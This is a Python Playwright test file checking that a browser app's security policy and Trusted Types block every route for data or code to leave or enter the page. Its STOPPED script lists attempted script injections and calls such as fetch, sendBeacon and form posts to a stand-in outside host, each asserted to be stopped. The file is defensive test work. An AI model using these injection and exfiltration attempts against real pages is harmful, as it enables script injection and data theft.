"""The security policy holds, and nothing leaves the browser."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.archive import StandInArchive
from tests.archive.catalogue import answer, observed, product
from tests.browser.chromium import open_context
from tests.browser.lists import MIXED

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

    from tests.browser.page import Skybasket
    from tests.browser.watch import Watch

ELSEWHERE: Final = "https://elsewhere.example.org/"


def test_the_watch_sees_what_the_worker_asks_for(
    skybasket: Skybasket, watch: Watch
) -> None:
    watch.tolerate("")
    [worker] = skybasket.page.workers
    worker.evaluate(f"fetch('{ELSEWHERE}').catch(() => {{}})")
    assert watch.stopped == [ELSEWHERE]


@pytest.mark.firefox
def test_a_whole_visit_asks_only_for_the_pages_own_files(
    skybasket: Skybasket, watch: Watch, archive: StandInArchive
) -> None:
    skybasket.open(answer(MIXED))
    skybasket.value("Mission", "HST").check()
    skybasket.type_name("drz")
    skybasket.tick_all()
    skybasket.row("u9ox0504m_drz.fits").get_by_text("u9ox0504m_drz.fits").click()
    expect(skybasket.details).to_contain_text("mast:HST/product/u9ox0504m_drz.fits")
    skybasket.press("Download")
    skybasket.dialog.get_by_role("radio", name="curl script").check()
    with skybasket.page.expect_download() as saving:
        skybasket.dialog.get_by_role("button", name="Save script").click()
    assert saving.value.path().stat().st_size > 0
    assert archive.visits == []
    own = (skybasket.address, "data:", "blob:")
    assert [place for place in watch.requests if not place.startswith(own)] == []


@pytest.mark.firefox
def test_what_is_stored_has_the_pages_own_name(skybasket: Skybasket) -> None:
    skybasket.open(answer(MIXED))
    skybasket.tick("HST")
    kept = skybasket.page.get_by_text("Kept in this browser", exact=True)
    expect(kept).to_be_visible()
    names, cookies, caches = skybasket.page.evaluate(
        """async () => [
          [
            ...Object.keys(localStorage),
            ...Object.keys(sessionStorage),
            ...(await indexedDB.databases()).map(({ name }) => name),
          ],
          document.cookie,
          await caches.keys(),
        ]"""
    )
    path = urlsplit(skybasket.address).path
    assert names
    assert all(name.startswith(f"skybasket:{path}:") for name in names)
    assert (cookies, caches) == ("", [])


#: Does something, and gives the directive that stopped it.
STOPPED: Final = """act => new Promise((resolve) => {
  const listen = (event) => resolve(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", listen, { once: true });
  setTimeout(() => resolve("nothing"), 5000);
  const acts = {
    script: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.harmed = true"));
      document.body.append(script);
    },
    frame: () => document.body.append(Object.assign(
      document.createElement("iframe"), { src: "ADDRESS" })),
    fetch: () => void fetch("ADDRESS").catch(() => {}),
    beacon: () => void navigator.sendBeacon("ADDRESS", "products"),
    image: () => { new Image().src = "ADDRESSx.png"; },
    socket: () => { try { new WebSocket("wss://elsewhere.example.org"); } catch {} },
    form: () => {
      const form = document.createElement("form");
      Object.assign(form, { action: "ADDRESS", method: "post", target: "_blank" });
      document.body.append(form);
      try { form.submit(); } catch {}
    },
    base: () => document.head.append(Object.assign(
      document.createElement("base"), { href: "ADDRESS" })),
    markup: () => { try { document.body.innerHTML = "<b>"; } catch {} },
    // Later, since a debugger's own evaluation may evaluate.
    evaluation: () => setTimeout(() => { try { globalThis["eval"]("1"); } catch {} }),
    style: () => document.body.append(Object.assign(
      document.createElement("style"), { textContent: "body { color: red }" })),
    policy: () => { try { trustedTypes.createPolicy("mine", {}); } catch {} },
    worker: () => { try { new Worker("js/worker.js"); } catch {} },
    blobWorker: () => {
      try { new Worker(URL.createObjectURL(new Blob([""]))); } catch {}
    },
    handler: () => {
      try {
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.harmed = true");
      } catch {}
    },
    parsedHandler: () => {
      const { implementation } = document;
      try { implementation.createHTMLDocument().write("<b onclick=1>"); } catch {}
    },
    scriptAddress: () => {
      try { document.createElement("script").src = "ADDRESS"; } catch {}
    },
    module: () => void import("ADDRESS").catch(() => {}),
    inlineFrame: () => {
      try { document.createElement("iframe").srcdoc = "<script>1</script>"; } catch {}
    },
    link: () => {
      const link = document.createElement("a");
      link.href = "javascript:window.harmed = true";
      document.body.append(link);
      link.click();
    },
    object: () => {
      try { document.createElement("object").data = "ADDRESS"; } catch {}
    },
    embed: () => {
      try { document.createElement("embed").src = "ADDRESS"; } catch {}
    },
    sheet: () => document.head.append(Object.assign(
      document.createElement("link"), { rel: "stylesheet", href: "ADDRESS" })),
    styleAttribute: () => document.body.setAttribute("style", "color: red"),
    font: () => void new FontFace("x", "url(ADDRESS)").load().catch(() => {}),
    media: () => { new Audio("ADDRESS").load(); },
    events: () => { new EventSource("ADDRESS"); },
    timer: () => { try { setTimeout("window.harmed = true"); } catch {} },
    builtFunction: () => setTimeout(() => {
      try { (() => {}).constructor("window.harmed = true")(); } catch {}
    }),
    range: () => {
      try { document.createRange().createContextualFragment("<b>"); } catch {}
    },
    parser: () => {
      try { new DOMParser().parseFromString("<b>", "text/html"); } catch {}
    },
  };
  acts[act]();
})""".replace("ADDRESS", ELSEWHERE)


@pytest.fixture(scope="module")
def attacked(open_tab: Callable[[], Skybasket], watch: Watch) -> Iterator[Skybasket]:
    """Open a tab of its own, since what is stopped still leaves its traces there."""
    skybasket = open_tab()
    skybasket.visit()
    skybasket.is_engine("ready")
    yield skybasket
    watch.detach(skybasket.page.context)
    skybasket.page.context.close()


@pytest.mark.firefox
@pytest.mark.parametrize(
    ("act", "directive"),
    [
        ("script", "require-trusted-types-for"),
        ("fetch", "connect-src"),
        ("beacon", "connect-src"),
        ("image", "img-src"),
        ("socket", "connect-src"),
        ("form", "form-action"),
        ("base", "base-uri"),
        ("markup", "require-trusted-types-for"),
        ("evaluation", "require-trusted-types-for"),
        ("style", "style-src-elem"),
        ("policy", "trusted-types"),
        ("worker", "require-trusted-types-for"),
    ],
)
def test_the_policy_stops(
    attacked: Skybasket, watch: Watch, act: str, directive: str
) -> None:
    watch.tolerate("")
    assert attacked.page.evaluate(STOPPED, act) == directive
    assert attacked.page.evaluate("window.harmed") is None
    assert watch.stopped == []


#: As Chromium names the directives.
@pytest.mark.parametrize(
    ("act", "directive"),
    [
        ("blobWorker", "require-trusted-types-for"),
        ("handler", "require-trusted-types-for"),
        ("parsedHandler", "require-trusted-types-for"),
        ("scriptAddress", "require-trusted-types-for"),
        ("module", "script-src-elem"),
        ("inlineFrame", "require-trusted-types-for"),
        ("link", "script-src-elem"),
        ("object", "require-trusted-types-for"),
        ("embed", "require-trusted-types-for"),
        ("sheet", "style-src-elem"),
        ("styleAttribute", "style-src-attr"),
        ("font", "font-src"),
        ("media", "media-src"),
        ("events", "connect-src"),
        ("timer", "require-trusted-types-for"),
        ("builtFunction", "require-trusted-types-for"),
        ("range", "require-trusted-types-for"),
        ("parser", "require-trusted-types-for"),
    ],
)
def test_the_policy_stops_every_other_way(
    attacked: Skybasket, watch: Watch, act: str, directive: str
) -> None:
    test_the_policy_stops(attacked, watch, act, directive)


@pytest.mark.firefox
def test_a_foreign_frame_is_never_asked_for(browser: Browser, site: str) -> None:
    # Unwatched: Firefox tells of a frame's request before it asks the policy.
    with StandInArchive() as elsewhere, open_context(browser) as context:
        page = context.new_page()
        page.goto(site)
        act = STOPPED.replace(ELSEWHERE, f"{elsewhere.address}/")
        assert page.evaluate(act, "frame") == "frame-src"
        assert elsewhere.visits == []


def test_a_search_tells_the_archive_the_pages_host_alone(
    skybasket: Skybasket, archive: StandInArchive
) -> None:
    archive.observations, archive.products = observed(MIXED)
    page = skybasket.page
    page.get_by_role("tab", name="Add products").click()
    panel = page.get_by_role("tabpanel", name="Add products")
    panel.get_by_role("textbox", name="Missions", exact=True).fill("HST")
    with page.expect_request(f"{archive.address}/**") as asking:
        panel.get_by_role("button", name="Search", exact=True).click()
    told = asking.value.all_headers()
    own = urlsplit(skybasket.address)
    assert told["origin"] == f"{own.scheme}://{own.netloc}"
    assert not {"cookie", "referer", "authorization"} & set(told)
    assert own.path not in "".join(told.values())


def test_a_page_that_is_opened_from_here_learns_nothing_of_it(
    skybasket: Skybasket, watch: Watch, archive: StandInArchive
) -> None:
    watch.tolerate("404")
    place = f"{archive.address}/documents/readme"
    row = product("a_drz.fits", "A", "HST", productDocumentationURL=place)
    skybasket.open(answer([row]))
    skybasket.row("a_drz.fits").get_by_text("a_drz.fits", exact=True).click()
    link = skybasket.details.get_by_role("link", name=place)
    with skybasket.page.context.expect_page() as opening:
        link.click()
    opened = opening.value
    opened.wait_for_load_state()
    assert opened.evaluate("[window.opener, document.referrer]") == [None, ""]
    opened.close()
